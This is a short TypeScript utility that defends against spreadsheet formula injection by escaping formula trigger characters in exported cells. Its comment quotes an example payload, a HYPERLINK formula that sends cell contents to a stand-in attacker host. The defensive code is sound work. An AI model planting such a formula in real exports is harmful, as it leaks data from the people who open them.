/** Where a spreadsheet may begin a cell: the start, and every character that some locale or import splits at. */
const triggerAtCellStart = /(^|[\t\r\n;,|"])(\s*)(?=[=+\-@＝＋－＠])/gu;
const controlAtStart = /^[\t\r\n]/u;

/**
 * Makes a text harmless in a spreadsheet. The attack: somebody chooses a name or sends a user agent such as
 * `=HYPERLINK("https://evil.example/?"&A1)`, and it runs as a formula on the machine of whoever opens the export.
 * An apostrophe before the first character makes it text; also behind a semicolon, a tab or a line's end inside
 * the cell, where spreadsheets of other locales begin a new one.
 */
export function defuseCell(text: string): string {
  const defused = text.replaceAll(triggerAtCellStart, "$1$2'");
  return controlAtStart.test(defused) ? `'${defused}` : defused;
}
